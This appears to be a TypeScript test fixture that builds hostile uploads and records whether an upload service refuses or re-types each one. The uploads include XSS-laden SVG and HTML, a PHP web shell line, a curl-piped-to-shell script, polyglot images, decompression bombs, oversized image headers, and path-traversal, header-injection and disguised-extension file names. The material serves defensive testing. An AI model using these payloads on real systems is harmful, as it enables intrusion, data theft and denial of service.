import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** Contained in everything that must not be seen or run. */
export const marker = 'Wm4kZ';
const script = `<script>alert("${marker}")</script>`;

/** The result of an upload: `refused`, or the type. */
type Fate = 'refused' | (string & {});

export interface HostileFile {
  what: string;
  bytes: Buffer;
  fate: Fate;
}

const be32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const le16 = (...values: number[]) => {
  const bytes = Buffer.alloc(2 * values.length);
  for (const [n, value] of values.entries()) bytes.writeUInt16LE(value, 2 * n);
  return bytes;
};
const le32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  return Buffer.concat([be32(data.length), named, be32(crc32(named))]);
}

/** Returns a PNG that declares this size, with one bit per pixel and these packed pixels. */
function png(width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer {
  const header = Buffer.concat([be32(width), be32(height), Buffer.from([1, 0, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    ...more,
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * Returns a PNG whose lines all repeat the first one. It is small because of a filter that our encoder does not use,
 * and the line is too long for the encoder to find the repetition.
 */
function repeatedLine(line: Buffer, channels: 3 | 4, height: number): Buffer {
  const same = Buffer.alloc(1 + line.length);
  same[0] = 2;
  const lines = [Buffer.from([0]), line, ...Array<Buffer>(height - 1).fill(same)];
  const bytes = png(line.length / channels, height, deflateSync(Buffer.concat(lines)));
  bytes.set([8, channels === 4 ? 6 : 2], 24);
  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
  return bytes;
}

/**
 * Returns pictures below 64 KB, most of which grow when they are re-encoded as their own type. `becomes`: the type that
 * fits, if any.
 */
export async function swellingPictures(): Promise<{ bytes: Buffer; becomes?: string }[]> {
  const [width, side] = [11_000, 150];
  const noise = randomBytes(width * 4);
  const wave = Buffer.from(
    Array.from({ length: width * 3 }, (_, n) => 128 + 90 * Math.sin(n / 300) + ((noise[n] ?? 0) % 4)),
  );
  const still = (side: number) =>
    sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } });
  const frames = { width: side, height: side * 10, channels: 3, pageHeight: side } as const;
  const moving = (pixels: Buffer) => sharp(pixels, { raw: frames });
  const pixels = side * side * 10 * 3;
  return [
    { bytes: repeatedLine(wave, 3, 6), becomes: 'image/jpeg' },
    { bytes: repeatedLine(noise, 4, 6), becomes: 'image/webp' },
    { bytes: repeatedLine(noise.subarray(0, width * 3), 3, 40) },
    { bytes: await still(450).jpeg({ quality: 20 }).toBuffer(), becomes: 'image/jpeg' },
    { bytes: await still(330).webp({ quality: 1 }).toBuffer(), becomes: 'image/webp' },
    { bytes: await still(110).avif({ quality: 5, effort: 0 }).toBuffer(), becomes: 'image/avif' },
    { bytes: await moving(randomBytes(pixels)).webp({ quality: 1 }).toBuffer() },
    { bytes: await moving(Buffer.alloc(pixels)).gif().toBuffer(), becomes: 'image/gif' },
  ];
}

/** Returns an animated PNG with two frames of 8 × 8, a text and a location. @param last the lines of the last frame */
export function animatedPng(last = Buffer.alloc(16, Buffer.from([0, 0x55]))): Buffer {
  const control = (n: number) =>
    chunk(
      'fcTL',
      Buffer.concat([be32(n), be32(8), be32(8), be32(0), be32(0), Buffer.from([0, 1, 0, 10, 0, 0])]),
    );
  const first = png(
    8,
    8,
    deflateSync(Buffer.alloc(16)),
    chunk('tEXt', Buffer.from(`a\0${script}`)),
    chunk('eXIf', Buffer.from(`MM\0*GPS ${marker}`)),
    chunk('acTL', Buffer.concat([be32(2), be32(0)])),
    control(0),
  );
  const second = [control(1), chunk('fdAT', Buffer.concat([be32(2), deflateSync(last)]))];
  return Buffer.concat([first.subarray(0, -12), ...second, first.subarray(-12)]);
}

/** Returns a GIF with this many frames of one pixel. */
function gif(width: number, height: number, frames: number): Buffer {
  const screen = Buffer.concat([
    le16(width, height),
    Buffer.from([0x80, 0, 0]),
    Buffer.from('000000ffffff', 'hex'),
  ]);
  const frame = Buffer.concat([
    Buffer.from('21f9040000000000', 'hex'),
    Buffer.from([0x2c]),
    le16(0, 0, 1, 1),
    Buffer.from('0002024401003b', 'hex').subarray(0, 6),
  ]);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    ...Array<Buffer>(frames).fill(frame),
    Buffer.from(';'),
  ]);
}

/** Returns a zip with one entry of any declared size. */
export function zip(name: string, packed: Buffer, size: number): Buffer {
  const common = Buffer.concat([
    le16(20, 0, 8, 0, 0),
    le32(0),
    le32(packed.length),
    le32(size),
    le16(name.length),
  ]);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, le16(0), Buffer.from(name), packed]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02'),
    le16(20),
    common,
    le16(0, 0, 0, 0),
    le32(0),
    le32(0),
    Buffer.from(name),
  ]);
  const end = Buffer.concat([
    Buffer.from('PK\x05\x06'),
    le16(0, 0, 1, 1),
    le32(central.length),
    le32(local.length),
    le16(0),
  ]);
  return Buffer.concat([local, central, end]);
}

/** Returns files crafted to run, to leak, or to break their decoder. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const plain = sharp({ create: { width: 30, height: 20, channels: 3, background: '#369' } });
  const [asPng, asJpeg, asWebp, asAvif] = await Promise.all([
    plain.clone().png().toBuffer(),
    plain.clone().jpeg().toBuffer(),
    plain.clone().webp().toBuffer(),
    plain.clone().avif({ effort: 0 }).toBuffer(),
  ]);
  const zeros = Buffer.alloc(8_000_000);
  const bomb = deflateSync(zeros, { level: 1 });
  const rawBomb = deflateRawSync(zeros, { level: 1 });
  const place = { IFD0: { Make: marker, ImageDescription: script }, IFD3: { GPSLatitude: '52/1 31/1 12/1' } };
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${marker}"/></rdf:RDF></x:xmpmeta>`;
  const frames = await sharp(
    Buffer.alloc(2 * 2 * 501 * 3).map((_, n) => (n * 37) % 251),
    {
      raw: { width: 2, height: 2 * 501, channels: 3, pageHeight: 2 },
    },
  )
    .webp({ loop: 0, delay: Array<number>(501).fill(50) })
    .toBuffer();
  const jpegOf = (side: number) => {
    const bytes = Buffer.from(asJpeg);
    const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
    bytes.writeUInt16BE(side, at + 5);
    bytes.writeUInt16BE(side, at + 7);
    return bytes;
  };
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), Buffer.from(script)]);
  const text = (words: string) => Buffer.from(words);
  const cases: [string, Buffer, Fate][] = [
    ['SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'text/plain'],
    ['SVG with a prolog', text(`<?xml version="1.0"?><svg onload="alert('${marker}')"/>`), 'text/plain'],
    ['HTML', text(`<!doctype html><body>${script}`), 'text/plain'],
    ['a script of PHP', text(`<?php system($_GET["${marker}"]);`), 'text/plain'],
    ['a script of a shell', text(`#!/bin/sh\ncurl ${marker} | sh\n`), 'text/plain'],
    ['an mhtml', text(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${script}`), 'text/plain'],
    ['HTML after the beginning of a PNG', Buffer.concat([asPng.subarray(0, 8), text(script)]), 'refused'],
    ['HTML after the header of a PNG', Buffer.concat([asPng.subarray(0, 33), text(script)]), 'refused'],
    ['a script that begins as a GIF', text(`GIF89a=1;alert("${marker}")`), 'refused'],
    [
      'a script that begins as a JPEG',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(script)]),
      'refused',
    ],
    ['a PNG with HTML behind it', Buffer.concat([asPng, text(script)]), 'image/png'],
    ['a JPEG with a zip behind it', Buffer.concat([asJpeg, zip(`${marker}.js`, rawBomb, 9)]), 'image/jpeg'],
    [
      'a JPEG with a comment',
      Buffer.concat([asJpeg.subarray(0, 2), comment, asJpeg.subarray(2)]),
      'image/jpeg',
    ],
    ['a WebP with a script behind it', Buffer.concat([asWebp, text(script)]), 'image/webp'],
    [
      'a PNG with a text',
      png(8, 1, deflateSync(Buffer.from([0, 1])), chunk('tEXt', text(`a\0${script}`))),
      'image/png',
    ],
    [
      'a PNG with a packed text that unpacks to much',
      png(8, 1, deflateSync(Buffer.from([0, 1])), chunk('zTXt', Buffer.concat([text('a\0\0'), bomb]))),
      'image/png',
    ],
    ['a JPEG with a place', await plain.clone().jpeg().withExif(place).toBuffer(), 'image/jpeg'],
    ['a PNG with a place', await plain.clone().png().withExif(place).toBuffer(), 'image/png'],
    ['a WebP with a place', await plain.clone().webp().withExif(place).toBuffer(), 'image/webp'],
    [
      'an AVIF with a place',
      await plain.clone().avif({ effort: 0 }).withExif(place).toBuffer(),
      'image/avif',
    ],
    ['a JPEG with XMP', await plain.clone().jpeg().withXmp(xmp).toBuffer(), 'image/jpeg'],
    // libvips recognizes SVG in it, and file-type AVIF.
    [
      'a drawing that begins like an AVIF',
      text(
        `<!--ftypavif--><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>${marker}</text></svg>`,
      ),
      'refused',
    ],
    ['a moving PNG with a text', animatedPng(), 'image/png'],
    ['a moving PNG with a frame of more pixels than it says', animatedPng(Buffer.alloc(99)), 'refused'],
    ['a PNG of 30,000 × 30,000', png(30_000, 30_000, bomb), 'refused'],
    ['a PNG of 8,001 × 8,000', png(8001, 8000, bomb), 'refused'],
    ['a PNG of no size', png(0, 0, bomb), 'refused'],
    ['a PNG with more pixels than it says', png(8, 8, bomb), 'image/png'],
    ['a PNG with fewer pixels than it says', png(4000, 4000, deflateSync(Buffer.alloc(9))), 'refused'],
    ['a JPEG of 65,500 × 65,500', jpegOf(65_500), 'refused'],
    ['half a JPEG', asJpeg.subarray(0, asJpeg.length / 2), 'refused'],
    ['a GIF of 10,000 frames', gif(1, 1, 10_000), 'refused'],
    // Its frames have only one pixel, which is the real size.
    ['a GIF of 65,535 × 65,535', gif(65_535, 65_535, 1), 'image/gif'],
    ['a GIF of 400 frames of 500 × 500', gif(500, 500, 400), 'refused'],
    ['a WebP of 501 frames', frames, 'refused'],
    ['half an AVIF', asAvif.subarray(0, asAvif.length / 2), 'refused'],
    ['a zip that unpacks to much', zip('a.txt', rawBomb, zeros.length), 'application/zip'],
    ['a document that unpacks to much', zip('[Content_Types].xml', rawBomb, zeros.length), 'application/zip'],
    ['a zip that lies about its size', zip('mimetype', rawBomb, 9), 'application/zip'],
    ['a gzip that unpacks to much', gzipSync(zeros, { level: 1 }), 'refused'],
    ['a program of Windows', Buffer.concat([text('MZ'), Buffer.alloc(64)]), 'refused'],
    ['a program of Linux', Buffer.concat([text('\x7fELF'), Buffer.alloc(64)]), 'refused'],
    ['WebAssembly', Buffer.concat([text('\0asm'), Buffer.from([1, 0, 0, 0])]), 'refused'],
    ['a PDF that is also a script', text(`%PDF-1.7\n//${script}\n`), 'application/pdf'],
    [
      'an MP3 with HTML in its tags',
      Buffer.concat([
        text('ID3\x03\0\0\0\0\x0f\x76TIT2'),
        text(script),
        Buffer.alloc(2038 - 4 - script.length),
        Buffer.from([0xff, 0xfb, 0x90, 0]),
        Buffer.alloc(2000),
      ]),
      'audio/mpeg',
    ],
    [
      'an ASF whose parts have no length',
      Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(500)]),
      'refused',
    ],
    // A TIFF is not re-encoded, so it would keep the camera's metadata.
    ['a TIFF with a place', await plain.clone().withExif(place).tiff().toBuffer(), 'refused'],
  ];
  return cases.map(([what, bytes, fate]) => ({ what, bytes, fate }));
}

/** Returns pictures within the pixel limit whose few bytes would take much memory. */
export async function largePictures(): Promise<{ what: string; bytes: Buffer; limit: string }[]> {
  const plain = sharp({ create: { width: 64, height: 64, channels: 3, background: '#369' } });
  const avif = await plain.clone().avif({ effort: 0 }).toBuffer();
  const size = avif.indexOf('ispe') + 8;
  avif.writeUInt32BE(8000, size);
  avif.writeUInt32BE(8000, size + 4);
  const deep = (width: number, height: number) => {
    const bytes = png(width, height, deflateSync(Buffer.alloc(1000)));
    // 16 bits in each of four channels.
    bytes.set([16, 6], 24);
    bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
    return bytes;
  };
  return [
    { what: 'a PNG of one line', bytes: deep(64_000_000, 1), limit: 'the limit of a side is 20000' },
    { what: 'a PNG of one column', bytes: deep(1, 64_000_000), limit: 'the limit of a side is 20000' },
    { what: 'a PNG of 16 bits', bytes: deep(8000, 8000), limit: 'the limit of 16-bit PNG is 32' },
    { what: 'an AVIF', bytes: avif, limit: 'the limit of AVIF is 16' },
    {
      what: 'a GIF',
      bytes: gif(500, 500, 400),
      limit: '100.0 megapixels in all frames; the limit of GIF is 64',
    },
    { what: 'a GIF of many frames', bytes: gif(1, 1, 10_000), limit: '10000 frames; the limit is 500' },
  ];
}

/** Names from uploaders, and the names that others see. */
export const hostileNames: [string, string | RegExp][] = [
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\boot.ini', 'boot.ini'],
  ['/', 'file'],
  ['..', 'file'],
  ['.htaccess', 'htaccess'],
  ['photo\u202egnp.exe', 'photognp.exe'],
  ['\u2066a\u2069\u200f\ufeff.txt', 'a.txt'],
  // Blank Braille patterns and Hangul fillers look like spaces, which could move the extension out of sight.
  [`photo.jpg${'\u2800'.repeat(60)}.exe`, 'photo.jpg.exe'],
  [`photo.jpg${'\u3164\u115f\u1160\uffa0'.repeat(15)}.exe`, 'photo.jpg.exe'],
  ['\u3164\u2800', 'file'],
  ['\u200d\ufe0f', 'file'],
  ['葛\u{e0100}❤\ufe0f.txt', '葛\u{e0100}❤\ufe0f.txt'],
  ['a\r\nSet-Cookie: x=1.txt', 'aSet-Cookie_ x=1.txt'],
  ['a\u0000.html', 'a.html'],
  ['a";filename="b.html', 'a_;filename=_b.html'],
  ['<img src=x onerror=alert(1)>.png', '_img src=x onerror=alert(1)_.png'],
  [`${'x'.repeat(300)}.png`, /^x{95}….png$/],
  [`${'👩🏽‍💻'.repeat(100)}.txt`, /….txt$/],
  [`a.${'b'.repeat(300)}`, /^a\.b{97}…$/],
  ['  space \t here.txt ', 'space here.txt'],
  ['', 'file'],
];
